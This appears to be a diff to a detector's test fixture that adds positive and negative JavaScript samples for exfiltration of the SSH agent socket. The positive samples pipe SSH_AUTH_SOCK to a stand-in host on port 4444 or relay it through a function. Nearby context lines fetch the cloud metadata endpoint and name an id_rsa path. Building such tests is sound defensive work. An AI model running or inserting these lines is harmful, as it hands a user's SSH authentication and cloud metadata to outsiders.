@@ -239,3 +239,12 @@ fetch('http://169.254.169.254/latest/meta-data/placement/region');
 const assert = require('assert');
 const parent = (p) => p.split('/').slice(0, -1).join('/');
 assert.strictEqual(parent('/home/u/.ssh/id_rsa'), '/home/u/.ssh');
+//@ pos the SSH agent's socket relayed out
+const net = require('net');
+net.connect(process.env.SSH_AUTH_SOCK).pipe(net.connect(4444, '203.0.113.9'));
+//@ pos the SSH agent's socket as a shorthand path through a parameter
+const { createConnection } = require('net');
+function relay(path) { return createConnection({ path }); }
+relay(process.env.SSH_AUTH_SOCK);
+//@ neg the SSH agent named to an SSH client
+new (require('ssh2').Client)().connect({ host: 'h', username: 'u', agent: process.env.SSH_AUTH_SOCK });
